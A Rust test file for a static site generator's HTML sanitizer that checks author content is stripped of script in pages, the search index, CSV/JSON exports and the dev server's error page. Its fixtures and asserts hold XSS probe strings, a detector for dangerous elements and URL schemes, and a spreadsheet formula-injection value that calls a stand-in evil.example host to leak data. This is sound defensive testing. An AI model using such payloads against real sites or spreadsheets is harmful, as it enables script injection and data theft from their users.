//! Author HTML (tests/fixtures/hostile-html): no author text becomes script
//! or markup in any output (pages, search index, resources.json/.csv, the dev
//! server's error page); the safe subset survives; `check` names every
//! removal at its file and line; `raw_html: trusted` keeps HTML as written.
//!
//! The hostile toolkit fails `build` (its script is an error in `check`), so
//! its output is taken from the in-memory build that `build` and `serve` both
//! render with, and from a running dev server.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::time::Duration;

use cardstock::check::Severity;
use cardstock::check_toolkit;
use cardstock::serve::{ServeOptions, Server};
use scraper::{Html, Node};
use serde_json::Value;

use crate::support::{Workspace, attr, copy_tree, fixture, one, select, select_in, text};

const HOSTILE_TITLE: &str = "<img src=x onerror=alert(1)>";

/// Every file the hostile toolkit renders, by path.
fn hostile_outputs() -> BTreeMap<String, Vec<u8>> {
    let built = cardstock::build_in_memory(&fixture("hostile-html"), None)
        .unwrap_or_else(|e| panic!("the hostile toolkit renders:\n{e}"));
    built.files.into_iter().map(|f| (f.path, f.bytes)).collect()
}

fn html_of(outputs: &BTreeMap<String, Vec<u8>>, path: &str) -> Html {
    let bytes = outputs
        .get(path)
        .unwrap_or_else(|| panic!("no {path} among {:?}", outputs.keys()));
    Html::parse_document(std::str::from_utf8(bytes).unwrap())
}

/// The scheme of a URL as a browser reads it (tabs, line breaks and leading
/// controls ignored), lowercased; written apart from the sanitizer's own.
fn scheme(url: &str) -> String {
    let cleaned: String = url.chars().filter(|c| !"\t\n\r".contains(*c)).collect();
    let trimmed = cleaned.trim_start_matches(|c: char| c <= ' ');
    match trimmed.split_once(':') {
        Some((s, _)) if s.chars().all(|c| c.is_ascii_alphanumeric()) => s.to_ascii_lowercase(),
        _ => String::new(),
    }
}

/// What in a parsed page could run script or take the page over.
/// The one `data:` URL a page may hold: the theme's own citation downloads
/// (`render::citations`), a link with `download` whose media type is RIS,
/// BibTeX or CSL-JSON: files a browser saves, never runs. Any other `data:`
/// URL (an author's `text/html` or `image/svg+xml`) is still a danger.
fn is_citation_download(element: &str, download: Option<&str>, attribute: &str, url: &str) -> bool {
    const CITATION_TYPES: [&str; 3] = [
        "data:application/x-research-info-systems;charset=utf-8,",
        "data:application/x-bibtex;charset=utf-8,",
        "data:application/vnd.citationstyles.csl+json;charset=utf-8,",
    ];
    element == "a"
        && attribute == "href"
        && download.is_some_and(|d| !d.is_empty())
        && CITATION_TYPES.iter().any(|t| url.starts_with(t))
}

fn dangers(doc: &Html) -> Vec<String> {
    let mut found = Vec::new();
    for node in doc.tree.nodes() {
        let Node::Element(el) = node.value() else {
            continue;
        };
        let name = el.name();
        match name {
            // The theme's own scripts: files of the site, no inline code.
            "script" => {
                let src = el.attr("src").unwrap_or("");
                let inline: String = node
                    .children()
                    .filter_map(|c| c.value().as_text().map(|t| t.to_string()))
                    .collect();
                if !src.ends_with(".js") || src.contains("://") || !inline.trim().is_empty() {
                    found.push(format!("<script src={src:?}>{inline}"));
                }
            }
            "iframe" | "object" | "embed" | "base" | "math" | "frame" | "applet" => {
                found.push(format!("<{name}>"))
            }
            // Cardstock's own root page redirects to a language with a relative URL.
            "meta" if el.attr("http-equiv").is_some() => {
                let content = el.attr("content").unwrap_or("");
                let target = content.split_once("url=").map_or("", |(_, t)| t);
                if target.is_empty() || !scheme(target).is_empty() {
                    found.push(format!("<meta http-equiv content={content:?}>"));
                }
            }
            _ => {}
        }
        for (attribute, value) in el.attrs() {
            let lowered = attribute.to_ascii_lowercase();
            if lowered.starts_with("on") || lowered == "srcdoc" {
                found.push(format!("{attribute} on <{name}>"));
            }
            let is_url = matches!(
                lowered.as_str(),
                "href" | "src" | "action" | "formaction" | "data" | "poster" | "xlink:href"
            );
            if is_url
                && ["javascript", "vbscript", "data"].contains(&scheme(value).as_str())
                && !is_citation_download(name, el.attr("download"), &lowered, value)
            {
                found.push(format!("{attribute}={value:?} on <{name}>"));
            }
        }
    }
    found
}

#[test]
fn no_script_survives_in_any_page() {
    let outputs = hostile_outputs();
    let pages: Vec<&String> = outputs.keys().filter(|p| p.ends_with(".html")).collect();
    assert!(pages.len() > 5, "{pages:?}");
    for page in pages {
        let found = dangers(&html_of(&outputs, page));
        assert!(found.is_empty(), "{page}: {found:?}");
    }
    // What the attacks wrapped is still there, as text.
    let attacks = html_of(&outputs, "en/attacks/index.html");
    let prose = text(one(&attacks, "main .prose"));
    for words in [
        "Object fallback.",
        "VBScript link",
        "Entity-tab link",
        "Tab link",
        "old markup",
        "Markdown links: javascript, entity tab",
    ] {
        assert!(prose.contains(words), "{words:?} in {prose}");
    }
    assert!(!prose.contains("alert"), "{prose}");
    // MathML and SVG go with their content: it is markup for another renderer.
    assert!(!prose.contains("Math text."), "{prose}");
    // A link whose URL was removed leads nowhere: raw `<a>` keeps no `href`,
    // a Markdown link becomes its text.
    let link_texts: Vec<String> = select(&attacks, "main .prose a[href]")
        .into_iter()
        .map(text)
        .collect();
    assert!(
        link_texts
            .iter()
            .all(|t| !t.contains("link") && t != "javascript"),
        "{link_texts:?}"
    );
    assert_eq!(
        text(one(&attacks, "main .prose h2")),
        "A heading with a handler"
    );
}

#[test]
fn cards_change_ideas_and_resource_lists_are_cleaned_too() {
    let outputs = hostile_outputs();
    let card = html_of(&outputs, "en/strategies/coaching/index.html");
    assert!(dangers(&card).is_empty());
    assert_eq!(text(one(&card, "#what + .section-text")), "A coach visits.");
    assert_eq!(text(one(&card, "#how + .section-text")), "See the coach.");
    let package = html_of(&outputs, "en/change-packages/package/index.html");
    // Driver titles are plain text, in the driver list and in the SVG diagram.
    let main_text = text(one(&package, "main"));
    assert!(
        main_text.contains("<script>alert('driver')</script> Access"),
        "{main_text}"
    );
    assert!(
        main_text.contains("<svg onload=alert('booking')> Booking"),
        "{main_text}"
    );
    let remind = text(one(&package, "#idea-remind + .idea-text"));
    assert_eq!(remind, "Send a text and see more.");
    let call = one(&package, "#idea-call + .idea-text");
    assert_eq!(attr(select_in(call, "abbr")[0], "title"), "Same day");
    assert!(!text(call).contains("alert"));
    let resources = html_of(&outputs, "en/resources/index.html");
    assert!(!text(one(&resources, "main")).contains("alert('intro')"));
}

#[test]
fn the_safe_subset_survives() {
    let outputs = hostile_outputs();
    let safe = html_of(&outputs, "en/safe/index.html");
    assert_eq!(text(one(&safe, "details > summary")), "Show the steps");
    assert_eq!(attr(one(&safe, "abbr"), "title"), "Plan-Do-Study-Act");
    assert_eq!(text(one(&safe, "sup")), "2");
    assert_eq!(text(one(&safe, "sub")), "2");
    assert_eq!(text(one(&safe, "kbd")), "Ctrl");
    let span = one(&safe, "span[lang=es]");
    assert_eq!(
        (text(span).as_str(), attr(span, "dir").as_str()),
        ("hola", "ltr")
    );
    let note = one(&safe, "div#note");
    assert_eq!(attr(note, "class"), "callout");
    assert_eq!(attr(note, "lang"), "en");
    assert_eq!(text(one(&safe, "table caption")), "Roles");
    let scopes: Vec<String> = select(&safe, "th")
        .into_iter()
        .map(|th| attr(th, "scope"))
        .collect();
    assert_eq!(scopes, ["col", "col", "row"]);
    assert_eq!(
        attr(one(&safe, "figure img"), "alt"),
        "A run chart rising over six months"
    );
    assert_eq!(text(one(&safe, "figure figcaption")), "Run chart");
    // The attacks page keeps the disclosure, without its handler.
    let attacks = html_of(&outputs, "en/attacks/index.html");
    assert_eq!(text(one(&attacks, "main details summary")), "Open me");
}

#[test]
fn markup_in_titles_and_summaries_is_text_everywhere() {
    let outputs = hostile_outputs();
    let named = html_of(&outputs, "en/named/index.html");
    assert_eq!(text(one(&named, "h1")), HOSTILE_TITLE);
    assert!(text(one(&named, "title")).contains(HOSTILE_TITLE));
    assert_eq!(
        attr(one(&named, "meta[name=description]"), "content"),
        "<script>alert('summary')</script> in a summary"
    );
    // The menu carries the title on every page, as text.
    let home = html_of(&outputs, "en/index.html");
    assert!(
        select(&home, "nav a")
            .into_iter()
            .any(|a| text(a) == HOSTILE_TITLE),
        "the menu lists the page by its title"
    );
    assert!(select(&home, "img").is_empty());

    // The search index stores text: the title as written, body text without tags.
    let mut documents = Vec::new();
    for (path, bytes) in &outputs {
        if path.starts_with("en/search/d/") {
            let list: Vec<Value> = serde_json::from_slice(bytes).unwrap();
            documents.extend(list);
        }
    }
    let titled = documents
        .iter()
        .find(|d| d["u"] == "en/named/")
        .expect("the page is indexed");
    assert_eq!(titled["t"], HOSTILE_TITLE);
    let attacks = documents
        .iter()
        .find(|d| d["u"] == "en/attacks/")
        .expect("indexed");
    for record in attacks["r"].as_array().unwrap() {
        let stored = record[2].as_str().unwrap_or("");
        assert!(
            !stored.contains('<') && !stored.contains("alert(1)"),
            "{stored}"
        );
    }
    // The browser scripts that show this text build nodes, never parse markup.
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    for script in [
        "themes/default/static/js/search.js",
        "themes/default/static/js/filters.js",
        "src/serve/live.js",
    ] {
        let code = fs::read_to_string(root.join(script)).unwrap();
        for sink in [
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
        ] {
            assert!(!code.contains(sink), "{script} uses {sink}");
        }
    }
}

#[test]
fn resource_data_files_carry_text_as_data() {
    let outputs = hostile_outputs();
    let json: Value = serde_json::from_slice(&outputs["en/resources/resources.json"]).unwrap();
    let resource = &json["resources"][0];
    assert_eq!(
        resource["title"],
        "=HYPERLINK(\"https://evil.example/?leak\",\"Click\")"
    );
    assert_eq!(resource["category_title"], "<b>Guides</b>");
    let csv_text = &outputs["en/resources/resources.csv"];
    let mut reader = csv::Reader::from_reader(csv_text.as_slice());
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| {
        let i = reader_headers(csv_text)
            .iter()
            .position(|h| h == name)
            .unwrap();
        row[i].to_string()
    };
    assert_eq!(
        cell("title"),
        "'=HYPERLINK(\"https://evil.example/?leak\",\"Click\")"
    );
    assert_eq!(
        cell("description"),
        "'@SUM(1+1) <script>alert('resource')</script>"
    );
    assert_eq!(cell("tags"), "'+tag; -minus");
    assert_eq!(cell("category"), "<b>Guides</b>");
    assert_eq!(cell("url"), "https://example.org/guide");
}

fn reader_headers(csv_text: &[u8]) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv_text);
    reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect()
}

/// What `check` must report on the hostile toolkit: file (under
/// `content/en/`), a text on the line at fault, severity, start of the message.
const EXPECTED_REMOVALS: &str = "
attacks.md | <script> | error | the `<script>` element
attacks.md | <svg | error | the `<svg>` element
attacks.md | ontoggle | error | the `ontoggle` attribute of `<details>`
attacks.md | <object | error | the `<object>` element
attacks.md | <form | error | the `<form>` element
attacks.md | <form | error | the `<button>` element
attacks.md | <meta | error | the `<meta>` element
attacks.md | <base | error | the `<base>` element
attacks.md | <math | error | the `<math>` element
attacks.md | <math | error | the `<mi>` element (with `xlink:href`)
attacks.md | VBScript link | error | the `href` attribute of `<a>` (a `vbscript:` URL)
attacks.md | Entity-tab link | error | the `href` attribute of `<a>` (a `javascript:` URL)
attacks.md | Entity-tab link | error | the `href` attribute of `<a>` (a `javascript:` URL)
attacks.md | Tab link | error | the `href` attribute of `<a>` (a `javascript:` URL)
attacks.md | <iframe | error | the `<iframe>` element
attacks.md | onerror | error | the `onerror` attribute of `<img>`
attacks.md | <font | warning | the `<font>` element
attacks.md | [javascript]( | error | a link to a `javascript:` URL
attacks.md | [entity tab]( | error | a link to a `javascript:` URL
attacks.md | [reference][bad] | error | a link to a `vbscript:` URL
attacks.md | {onclick | error | the `onclick` attribute of a heading
change-packages/package.md | onerror | error | the `onerror` attribute of `<img>` is removed from the page in the `description` of change idea `remind`
change-packages/package.md | [more](javascript | error | a link to a `javascript:` URL is written as plain text in the `description` of change idea `remind`
change-packages/package.md | <script>alert('block') | error | the `<script>` element is removed from the page in the `description` of change idea `call`
resources/index.md | <script>alert('intro') | error | the `<script>` element
strategies/coaching.md | <script> | error | the `<script>` element
strategies/coaching.md | onerror | error | the `onerror` attribute of `<img>`
strategies/coaching.md | javascript: | error | a link to a `javascript:` URL
";

#[test]
fn check_reports_each_removal_at_its_line() {
    let report = check_toolkit(&fixture("hostile-html"));
    let found: Vec<(String, usize, Severity, String)> = report
        .findings
        .iter()
        .filter(|f| f.rule == "raw-html-removed")
        .map(|f| {
            let d = &f.diagnostic;
            assert!(d.help.is_some(), "{f}");
            let severity = f.severity;
            (d.file.clone(), d.line.unwrap(), severity, d.message.clone())
        })
        .collect();
    let expected: Vec<(String, usize, Severity, String)> = EXPECTED_REMOVALS
        .trim()
        .lines()
        .map(|row| {
            let cells: Vec<&str> = row.splitn(4, " | ").collect();
            let file = format!("content/en/{}", cells[0]);
            let source = fs::read_to_string(fixture("hostile-html").join(&file)).unwrap();
            let line = crate::support::line_of(&source, cells[1]);
            let severity = match cells[2] {
                "error" => Severity::Error,
                _ => Severity::Warning,
            };
            (file, line, severity, cells[3].to_string())
        })
        .collect();
    let mut left = found.clone();
    for (file, line, severity, message) in &expected {
        let at = left.iter().position(|(f, l, s, m)| {
            f == file && l == line && s == severity && m.starts_with(message.as_str())
        });
        match at {
            Some(i) => drop(left.remove(i)),
            None => panic!("no {severity:?} `{message}` at {file}:{line} among\n{found:#?}"),
        }
    }
    // Nothing else: the safe page, plain-text values and Cardstock's markup are not reported.
    assert!(left.is_empty(), "not expected: {left:#?}");
}

#[test]
fn raw_html_trusted_keeps_html_as_written() {
    let page = "---\ntitle: Trusted\n---\n<details ontoggle=\"track()\" open><summary>S</summary>T</details>\n\n<script>window.counted = 1;</script>\n\n<p><font>old</font></p>\n";
    let ws = Workspace::from_fixture("minimal");
    ws.write("content/en/trusted.md", page);
    // Sanitized by default: the build refuses the script, and the render drops it.
    let err = ws.build().expect_err("a script in content is an error");
    assert!(err.to_string().contains("raw-html-removed"), "{err}");
    let built = cardstock::build_in_memory(&ws.toolkit, None).unwrap();
    let rendered = built
        .files
        .iter()
        .find(|f| f.path == "en/trusted/index.html")
        .unwrap();
    let doc = Html::parse_document(std::str::from_utf8(&rendered.bytes).unwrap());
    assert!(dangers(&doc).is_empty(), "{:?}", dangers(&doc));

    let settings = ws.read("cardstock.yaml");
    ws.write("cardstock.yaml", &format!("{settings}raw_html: trusted\n"));
    let site = ws.site();
    let doc = site.page("en/trusted/");
    let scripts: Vec<String> = select(&doc, "main script").into_iter().map(text).collect();
    assert_eq!(scripts, ["window.counted = 1;"]);
    assert_eq!(attr(one(&doc, "main details"), "ontoggle"), "track()");
    assert_eq!(text(one(&doc, "main font")), "old");
    let report = check_toolkit(&ws.toolkit);
    assert!(report.findings.iter().all(|f| f.rule != "raw-html-removed"));
}

/// GET over a raw socket; returns the status and the body.
fn get(addr: std::net::SocketAddr, target: &str) -> (u16, String) {
    let mut stream = TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    write!(
        stream,
        "GET {target} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut raw = String::new();
    stream.read_to_string(&mut raw).unwrap();
    let (head, body) = raw.split_once("\r\n\r\n").unwrap();
    let status = head.split(' ').nth(1).unwrap().parse().unwrap();
    (status, body.to_string())
}

fn serve(dir: &Path) -> Server {
    let mut options = ServeOptions::new(dir);
    options.port = 0;
    options.quiet = true;
    Server::start(options).unwrap()
}

#[test]
fn the_dev_server_refuses_script_and_escapes_its_error_page() {
    // The preview runs the check stage as `build` does: script-capable HTML
    // is an error there too, listed (as text) on the error page.
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&fixture("hostile-html"), dir.path());
    let server = serve(dir.path());
    let (status, body) = get(server.addr(), "/hostile/en/attacks/");
    assert_eq!(status, 503);
    let doc = Html::parse_document(&body);
    let found = dangers(&doc);
    assert!(found.is_empty(), "{found:?}");
    assert!(
        select(&doc, "li")
            .into_iter()
            .any(|li| text(li).contains("[raw-html-removed]")),
        "{body}"
    );
    server.stop();

    // A toolkit broken at start: the error page shows the author's text as text.
    let broken = tempfile::tempdir().unwrap();
    copy_tree(&fixture("hostile-html"), broken.path());
    let named = broken.path().join("content/en/named.md");
    let text_before = fs::read_to_string(&named).unwrap();
    fs::write(
        &named,
        text_before.replacen(
            "menu: true",
            "updated: \"<img src=x onerror=alert(2)>\"\nmenu: true",
            1,
        ),
    )
    .unwrap();
    let server = serve(broken.path());
    let (status, body) = get(server.addr(), "/hostile/en/named/");
    assert_eq!(status, 503);
    let doc = Html::parse_document(&body);
    assert!(select(&doc, "img").is_empty(), "{body}");
    assert!(
        select(&doc, "li")
            .into_iter()
            .any(|li| text(li).contains("<img src=x onerror=alert(2)>")),
        "{body}"
    );
    server.stop();
}

/// GETs `target` until `done` holds for its body; panics after 30 s.
fn get_until(addr: std::net::SocketAddr, target: &str, done: impl Fn(&str) -> bool) -> String {
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    loop {
        let (_, body) = get(addr, target);
        if done(&body) {
            return body;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{target} never changed:\n{body}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn the_dev_server_applies_a_changed_raw_html_setting_to_every_page() {
    let ws = Workspace::from_fixture("minimal");
    ws.write(
        "content/en/trusted.md",
        "---\ntitle: Trusted\nsummary: Old markup.\n---\n<font color=\"red\">Text.</font>\n",
    );
    let settings = ws.read("cardstock.yaml");
    ws.write("cardstock.yaml", &format!("{settings}raw_html: trusted\n"));
    let server = serve(&ws.toolkit);
    // `font` is outside the safe subset (a warning, so the preview builds).
    let has_font = |body: &str| !select(&Html::parse_document(body), "main font").is_empty();
    get_until(server.addr(), "/minimal/en/trusted/", has_font);
    // Back to the default: the kept page must not be reused as it was.
    ws.write("cardstock.yaml", &settings);
    get_until(server.addr(), "/minimal/en/trusted/", |body| {
        !has_font(body)
    });
    server.stop();
}

/// The exception for citation downloads is exact: another media type, or the
/// same one without `download`, is still a danger.
#[test]
fn only_the_themes_citation_downloads_may_be_data_urls() {
    let doc = Html::parse_document(concat!(
        r#"<a download="x.ris" href="data:application/x-research-info-systems;charset=utf-8,TY%20%20-%20ELEC">ok</a>"#,
        r#"<a download="x.html" href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">html</a>"#,
        r#"<a href="data:application/x-bibtex;charset=utf-8,@misc">no download</a>"#,
        r#"<img src="data:application/x-bibtex;charset=utf-8,@misc" alt="">"#,
    ));
    let found = dangers(&doc);
    assert_eq!(found.len(), 3, "{found:?}");
    assert!(
        found.iter().all(|f| !f.contains("research-info")),
        "{found:?}"
    );
}
